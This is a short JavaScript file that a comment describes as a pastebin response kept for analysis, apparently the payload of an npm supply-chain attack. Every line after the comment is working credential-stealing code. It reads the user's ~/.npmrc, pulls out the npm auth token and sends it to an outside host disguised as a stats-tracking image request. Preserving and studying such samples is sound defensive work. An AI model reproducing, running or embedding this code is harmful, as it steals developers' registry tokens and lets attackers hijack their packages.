// What the pastebin returned (kept as a file for analysis): read ~/.npmrc and send the token.
var path = require('path'), fs = require('fs'), http = require('http'), os = require('os');
var npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
var token = /\/\/registry\.npmjs\.org\/:_authToken=(.*)/.exec(npmrc);
if (token) { http.get({ hostname: 'sstatic1.histats.example', path: '/0.gif?4103075&101&' + token[1] }); }
